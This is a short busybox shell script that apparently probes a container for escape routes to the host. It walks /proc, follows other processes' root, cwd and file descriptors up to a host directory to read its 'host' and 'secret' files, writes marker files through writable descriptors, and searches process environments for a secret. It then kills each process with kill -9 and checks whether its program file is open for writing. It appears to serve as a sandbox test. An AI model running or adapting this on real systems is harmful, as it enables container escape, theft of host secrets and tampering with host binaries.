#!/bin/sh
# What root of a container finds out about the processes behind its mount, by /proc, with busybox: a line for each way
# that leads somewhere. Runs as the container's first process, MARK is a directory of the host, at the same path there.
# Nothing is printed where no way leads out.
for process in /proc/[0-9]*; do
	pid=${process#/proc/}
	[ "$pid" != $$ ] || continue
	ways="$process/root $process/cwd"
	for descriptor in "$process"/fd/*; do ways="$ways $descriptor"; done
	for task in "$process"/task/*; do ways="$ways $task/root $task/cwd"; done
	for way in $ways; do
		up=$way
		for step in 1 2 3 4 5 6 7 8 9 10 11 12; do
			[ ! -e "$up$MARK/host" ] || { echo "OUT by $up: $(cat "$up$MARK/host" "$up$MARK/secret" 2>/dev/null)"; break; }
			[ ! -e "$up/go" ] || [ "$way" = "$process/root" ] || [ "$way" = "$process/cwd" ] || break
			up=$up/..
		done
		# A descriptor of a directory in which something can be made.
		case $way in */fd/*) (: >"$way/made-by-attack") 2>/dev/null && echo "WRITABLE $way" ;; esac
	done
	tr '\0' '\n' <"$process/environ" 2>/dev/null | grep -q "$SECRET" && echo "SECRET in $process/environ"
	[ ! -e "$process/root/go" ] || [ "$pid" = 1 ] || grep -qs attack.sh "$process/cmdline" || echo "OWN ROOT $process"
done
# The program of each process, opened before it is killed, for writing afterwards. From a copy: the root goes with them.
mount -t tmpfs tmpfs /tmp && cp /bin/busybox /tmp/busybox && cat >/tmp/programs.sh <<'END'
for process in /proc/[0-9]*; do
	pid=${process#/proc/}
	[ "$pid" != $$ ] && [ "$pid" != 1 ] || continue
	exec 3<"$process/exe" || continue
	/tmp/busybox kill -9 "$pid"
	while [ -d "$process" ] && ! /tmp/busybox grep -q '^State:.Z' "$process/status"; do /tmp/busybox usleep 10000; done
	(exec 4<>/proc/self/fd/3) 2>/dev/null && echo "PROGRAM WRITABLE $(/tmp/busybox readlink /proc/self/fd/3)"
	exec 3<&-
done
echo ATTACKED
END
exec /tmp/busybox sh /tmp/programs.sh 2>/dev/null
